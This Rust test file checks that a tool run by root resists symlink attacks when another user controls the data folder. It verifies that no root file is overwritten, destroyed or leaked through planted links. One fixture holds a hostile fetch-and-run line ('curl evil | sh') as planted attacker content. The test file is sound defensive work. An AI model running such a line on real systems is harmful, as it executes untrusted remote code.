//! Another user may write the data folder, and tries to read or write root's files by planting links there.

use std::fs;
use std::os::unix::fs::{PermissionsExt, lchown, symlink};
use std::path::{Path, PathBuf};

use tempfile::TempDir;

use crate::rig::{GET, OLD, RESET, Told, ask, backup, file_of, folder, is_root, main_file};

const STRANGER: u32 = 65_534;

/// A stranger's folder, and a file of root's elsewhere.
struct Trap {
    data: TempDir,
    _elsewhere: TempDir,
    precious: PathBuf,
}

impl Trap {
    /// None, said so, where this is not root.
    fn around(precious: &str) -> Option<Self> {
        let (data, elsewhere) = (is_root().then(folder)?, folder());
        lchown(data.path(), Some(STRANGER), Some(STRANGER)).unwrap();
        let path = elsewhere.path().join("precious");
        fs::write(&path, precious).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
        Some(Self { data, _elsewhere: elsewhere, precious: path })
    }

    fn folder(&self) -> &Path {
        self.data.path()
    }

    fn plant_link(&self, at: &Path) {
        symlink(&self.precious, at).unwrap();
        lchown(at, Some(STRANGER), Some(STRANGER)).unwrap();
    }

    fn plant_file(&self, at: &Path, text: &str) {
        fs::write(at, text).unwrap();
        fs::set_permissions(at, fs::Permissions::from_mode(0o666)).unwrap();
        lchown(at, Some(STRANGER), Some(STRANGER)).unwrap();
    }

    /// What the stranger finds in the folder, links and root's own files aside.
    fn stranger_s_files(&self) -> String {
        use std::os::unix::fs::MetadataExt;
        let entries = fs::read_dir(self.folder()).unwrap().flatten();
        let readable = entries.filter(|entry| {
            let about = entry.metadata().unwrap();
            about.is_file() && (about.uid() == STRANGER || about.mode() & 0o004 != 0)
        });
        readable.map(|entry| fs::read_to_string(entry.path()).unwrap()).collect()
    }

    #[track_caller]
    fn assert_precious(&self, text: &str, told: &Told) {
        assert_eq!(fs::read_to_string(&self.precious).unwrap(), text, "{told:?}");
    }
}

/// Any lines, into any file of root's.
#[test]
fn nothing_is_written_through_a_planted_backup() {
    for lines in [&[GET] as &[&str], &[RESET]] {
        let Some(trap) = Trap::around("export PATH=/bin\n") else { return };
        let evil = format!("{}\ncurl evil | sh\n", file_of("attacker"));
        trap.plant_file(&main_file(trap.folder()), &evil);
        trap.plant_link(&backup(trap.folder()));
        let told = ask(trap.folder(), lines);
        trap.assert_precious("export PATH=/bin\n", &told);
        assert!(told.replies[0]["result"].is_object(), "{told:?}");
        let kept = fs::read_to_string(backup(trap.folder())).unwrap();
        assert!(!kept.contains("curl evil"), "{kept}");
    }
}

#[test]
fn nothing_is_destroyed_through_a_planted_file() {
    for (there, lines) in [(false, [GET]), (true, [GET]), (false, [RESET]), (true, [RESET])] {
        let Some(trap) = Trap::around("a key of root's") else { return };
        trap.plant_link(&main_file(trap.folder()));
        if there {
            trap.plant_file(&backup(trap.folder()), &file_of(OLD));
        }
        let told = ask(trap.folder(), &lines);
        trap.assert_precious("a key of root's", &told);
        assert_eq!(told.replies[0]["error"]["code"], -32001, "{told:?}");
        assert!(!trap.stranger_s_files().contains("a key"), "{told:?}");
    }
}

/// Some keep their secrets beside a `device_id`, as Matrix clients do.
#[test]
fn nothing_is_read_through_a_planted_file() {
    let secret = "{\"device_id\": \"AB12\", \"access_token\": \"ROOT-ONLY-SECRET\"}";
    for (there, lines) in [(false, [GET]), (true, [GET]), (false, [RESET]), (true, [RESET])] {
        let Some(trap) = Trap::around(secret) else { return };
        trap.plant_link(&main_file(trap.folder()));
        if there {
            trap.plant_file(&backup(trap.folder()), &file_of("AB12"));
        }
        let told = ask(trap.folder(), &lines);
        trap.assert_precious(secret, &told);
        assert_eq!(told.replies[0]["error"]["code"], -32001, "{told:?}");
        assert!(!trap.stranger_s_files().contains("ROOT-ONLY"), "{told:?}");
    }
}

/// The same link is fine where it is root's own, and the backup is root's alone.
#[test]
fn a_link_of_one_s_own_is_followed_and_nobody_else_reads_the_backup() {
    let secret = "{\"device_id\": \"AB12\", \"access_token\": \"ROOT-ONLY-SECRET\"}";
    let Some(trap) = Trap::around(secret) else { return };
    symlink(&trap.precious, main_file(trap.folder())).unwrap();
    trap.plant_file(&backup(trap.folder()), &file_of("AB12"));
    let told = ask(trap.folder(), &[GET]);
    assert_eq!(told.id(1).as_deref(), Some("AB12"), "{told:?}");
    assert!(!trap.stranger_s_files().contains("ROOT-ONLY"), "{told:?}");
}
